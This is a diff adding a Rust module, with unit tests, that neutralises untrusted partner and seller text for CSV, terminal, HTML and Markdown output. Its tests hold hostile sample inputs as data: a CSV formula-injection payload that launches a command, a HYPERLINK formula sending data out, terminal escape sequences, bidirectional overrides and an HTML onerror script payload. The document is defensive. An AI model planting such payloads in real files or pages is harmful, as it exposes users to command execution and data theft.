@@ -1,0 +1,220 @@
+//! Text from the input (partner and seller ids, names, raw rows, and the sentences that
+//! quote them) made inert for the output it goes to. Each kind of output has one function
+//! here, and every writer of that kind passes its text cells through it:
+//!
+//! - [`csv_text`]: a CSV text cell that a spreadsheet would read as a formula gets a
+//!   leading `'`. Figures are never passed through it.
+//! - [`shown`] / [`shown_lines`]: terminal text (tables, `explain`, messages) with every
+//!   control and bidirectional-formatting character written as `\u{…}`.
+//! - [`md_text`]: Markdown text that renders as exactly its characters: no link, image,
+//!   HTML, emphasis or other markup.
+//! - HTML text goes through `html::Esc`, which shows the same characters as [`shown`] does.
+
+use std::borrow::Cow;
+use std::fmt::{self, Write};
+
+/// Characters a spreadsheet takes as the start of a formula (the OWASP list), and the
+/// quote itself.
+const QUOTED_START: [char; 7] = ['=', '+', '-', '@', '\t', '\r', '\''];
+
+/// A CSV text cell as written: one that starts with `=`, `+`, `-`, `@`, a tab or a carriage
+/// return gets a leading `'`, so a spreadsheet shows it as text instead of running it. One
+/// that starts with `'` gets one more, so that two ids never read the same (`=1` is written
+/// `'=1`, `'=1` is written `''=1`): a reader gets the text back by dropping one leading `'`.
+pub fn csv_text(cell: &str) -> Cow<'_, str> {
+    if cell.starts_with(QUOTED_START) {
+        Cow::Owned(format!("'{cell}"))
+    } else {
+        Cow::Borrowed(cell)
+    }
+}
+
+/// Characters that are not shown as themselves: C0 controls (line breaks and tabs
+/// included), DEL, C1 controls, the bidirectional marks, embeddings, overrides and
+/// isolates, and the Unicode line and paragraph separators. A terminal acts on them (ESC
+/// starts a command, CR returns to the line start), and the bidirectional ones reorder
+/// the text around them.
+pub fn is_hidden(c: char) -> bool {
+    matches!(c,
+        '\u{0}'..='\u{1f}'
+        | '\u{7f}'..='\u{9f}'
+        | '\u{61c}'
+        | '\u{200e}' | '\u{200f}'
+        | '\u{2028}'..='\u{202e}'
+        | '\u{2066}'..='\u{2069}')
+}
+
+/// Writes `s` with every [`is_hidden`] character as `\u{…}` (lower-case hex, as Rust
+/// writes it), keeping line breaks when `keep_newlines`.
+fn write_shown(out: &mut impl Write, s: &str, keep_newlines: bool) -> fmt::Result {
+    let mut rest = s;
+    while let Some(i) = rest.find(|c: char| is_hidden(c) && !(keep_newlines && c == '\n')) {
+        out.write_str(&rest[..i])?;
+        let c = rest[i..].chars().next().expect("a character at i");
+        write!(out, "\\u{{{:x}}}", c as u32)?;
+        rest = &rest[i + c.len_utf8()..];
+    }
+    out.write_str(rest)
+}
+
+fn shown_with(s: &str, keep_newlines: bool) -> Cow<'_, str> {
+    if !s
+        .chars()
+        .any(|c| is_hidden(c) && !(keep_newlines && c == '\n'))
+    {
+        return Cow::Borrowed(s);
+    }
+    let mut out = String::with_capacity(s.len() + 8);
+    write_shown(&mut out, s, keep_newlines).expect("writing to a String");
+    Cow::Owned(out)
+}
+
+/// One value for the terminal (a table cell, a name in a sentence): every [`is_hidden`]
+/// character, line breaks too, as `\u{…}`, so a value stays on its line and cannot move
+/// the cursor, clear the screen, ring the bell or reorder what follows.
+pub fn shown(s: &str) -> Cow<'_, str> {
+    shown_with(s, false)
+}
+
+/// A whole text for the terminal (a report, a message): as [`shown`], but its line breaks
+/// stay. Applying it to text already made of [`shown`] values changes nothing.
+pub fn shown_lines(s: &str) -> Cow<'_, str> {
+    shown_with(s, true)
+}
+
+/// Text in HTML: [`is_hidden`] characters as `\u{…}`, except the line breaks and tabs
+/// that HTML takes as spaces anyway.
+pub(crate) fn write_html_shown(out: &mut fmt::Formatter<'_>, s: &str) -> fmt::Result {
+    let mut rest = s;
+    while let Some(i) = rest.find(|c: char| is_hidden(c) && !matches!(c, '\n' | '\t')) {
+        out.write_str(&rest[..i])?;
+        let c = rest[i..].chars().next().expect("a character at i");
+        write!(out, "\\u{{{:x}}}", c as u32)?;
+        rest = &rest[i + c.len_utf8()..];
+    }
+    out.write_str(rest)
+}
+
+/// ASCII punctuation always written with a backslash in Markdown text: the characters
+/// that open or close markup in CommonMark or a common extension (GitHub's tables,
+/// strikethrough and math; footnotes, attributes, superscript, highlight). With `[` and `]`
+/// escaped no link, image or footnote can form, so `(`, `)` and `!` stay as they are;
+/// `,` `'` `"` `/` `;` `?` `%` are never markup.
+const MD_ESCAPED: &str = "\\`*_{}[]#+|~$@^=";
+
+/// Text for a Markdown document (a table cell, a sentence) that renders as exactly its
+/// characters: markup punctuation is backslash-escaped, `&`, `<` and `>` are character
+/// references (so no raw HTML, entity or `<…>` autolink can form), and [`is_hidden`]
+/// characters are shown as `\u{…}` (their backslash and braces escaped too). A `.` or `:`
+/// followed by more text is escaped (`www\.x`, `http\://x`: no bare link or e-mail address
+/// can be recognised), one before a space or at the end is not (`Co.`, `Note:`); a leading
+/// `-` is escaped so a value cannot start a list.
+pub fn md_text(s: &str) -> String {
+    let shown = shown(s);
+    let mut out = String::with_capacity(shown.len() + 8);
+    let mut chars = shown.chars().peekable();
+    let mut first = true;
+    while let Some(c) = chars.next() {
+        let followed = chars.peek().is_some_and(|n| !n.is_whitespace());
+        match c {
+            '&' => out.push_str("&amp;"),
+            '<' => out.push_str("&lt;"),
+            '>' => out.push_str("&gt;"),
+            '-' if first => out.push_str("\\-"),
+            '.' | ':' if followed => {
+                out.push('\\');
+                out.push(c);
+            }
+            c if MD_ESCAPED.contains(c) => {
+                out.push('\\');
+                out.push(c);
+            }
+            c => out.push(c),
+        }
+        first = false;
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_starts_get_a_quote() {
+        for (cell, written) in [
+            ("=1+2", "'=1+2"),
+            (
+                "=HYPERLINK(\"http://x\"&A1,\"y\")",
+                "'=HYPERLINK(\"http://x\"&A1,\"y\")",
+            ),
+            ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
+            ("-2+3", "'-2+3"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1+1", "'\t=1+1"),
+            ("\r=1+1", "'\r=1+1"),
+            ("'=1", "''=1"),
+            ("'quoted'", "''quoted'"),
+        ] {
+            assert_eq!(csv_text(cell), written, "{cell:?}");
+        }
+        for plain in ["P01", "Acme = best", "a-b", "", " =1", "1.00"] {
+            assert!(matches!(csv_text(plain), Cow::Borrowed(_)), "{plain:?}");
+        }
+    }
+
+    #[test]
+    fn controls_and_bidi_characters_are_shown_escaped() {
+        assert_eq!(shown("plain é 名"), "plain é 名");
+        assert_eq!(shown("a\u{1b}[2Jb"), "a\\u{1b}[2Jb");
+        assert_eq!(
+            shown("bell\u{7}cr\rlf\ntab\t"),
+            "bell\\u{7}cr\\u{d}lf\\u{a}tab\\u{9}"
+        );
+        assert_eq!(shown("\u{7f}\u{85}\u{9b}"), "\\u{7f}\\u{85}\\u{9b}");
+        for c in [
+            '\u{202a}', '\u{202b}', '\u{202c}', '\u{202d}', '\u{202e}', '\u{2066}', '\u{2067}',
+            '\u{2068}', '\u{2069}', '\u{200e}', '\u{200f}', '\u{61c}', '\u{2028}', '\u{2029}',
+        ] {
+            assert_eq!(shown(&format!("x{c}y")), format!("x\\u{{{:x}}}y", c as u32));
+        }
+        // Letters of right-to-left scripts are text, not controls.
+        assert_eq!(shown("שלום مرحبا"), "שלום مرحبا");
+        assert_eq!(shown_lines("a\u{1b}\nb\r\n"), "a\\u{1b}\nb\\u{d}\n");
+        // Idempotent over its own output.
+        let once = shown("x\u{202e}\u{1b}y").into_owned();
+        assert_eq!(shown(&once), once);
+        assert_eq!(shown_lines(&once), once);
+    }
+
+    #[test]
+    fn markdown_text_is_inert() {
+        assert_eq!(md_text("Acme Co"), "Acme Co");
+        assert_eq!(md_text("a|b"), "a\\|b");
+        assert_eq!(
+            md_text("[x](http://evil.test)"),
+            "\\[x\\](http\\://evil\\.test)"
+        );
+        assert_eq!(md_text("![i](x.png)"), "!\\[i\\](x\\.png)");
+        assert_eq!(
+            md_text("<img src=x onerror=alert(1)>"),
+            "&lt;img src\\=x onerror\\=alert(1)&gt;"
+        );
+        assert_eq!(
+            md_text("&amp; *b* _i_ `c`"),
+            "&amp;amp; \\*b\\* \\_i\\_ \\`c\\`"
+        );
+        assert_eq!(md_text("www.evil.test"), "www\\.evil\\.test");
+        assert_eq!(md_text("a@b.test"), "a\\@b\\.test");
+        assert_eq!(md_text("- item"), "\\- item");
+        assert_eq!(md_text("P-01"), "P-01");
+        assert_eq!(md_text("Summit, Reed and Co."), "Summit, Reed and Co.");
+        assert_eq!(
+            md_text("Harbor & Finch (US): Note: 1. x"),
+            "Harbor &amp; Finch (US): Note: 1. x"
+        );
+        assert_eq!(md_text("https://x.test/p"), "https\\://x\\.test/p");
+        assert_eq!(md_text("line\nbreak"), "line\\\\u\\{a\\}break");
+        assert_eq!(md_text("back\\slash"), "back\\\\slash");
+    }
+}
